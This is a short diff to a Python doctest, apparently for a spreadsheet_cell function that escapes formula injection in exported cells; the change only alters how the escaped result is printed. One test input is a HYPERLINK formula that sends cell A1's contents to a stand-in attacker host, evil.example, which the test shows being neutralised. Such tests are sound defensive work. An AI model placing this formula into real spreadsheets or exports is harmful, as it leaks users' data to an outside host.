@@ -13,8 +13,8 @@ quote
 ------------------------------
 Kazakhstan said on Friday it …
 (1 row)
->>> spreadsheet_cell('=HYPERLINK("http://evil.example/?leak="&A1,"click")')
-'\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+>>> print(spreadsheet_cell('=HYPERLINK("http://evil.example/?leak="&A1,"click")'))
+'=HYPERLINK("http://evil.example/?leak="&A1,"click")
 >>> spreadsheet_cell("-3"), spreadsheet_cell(-0.5)
 ('-3', -0.5)
 """
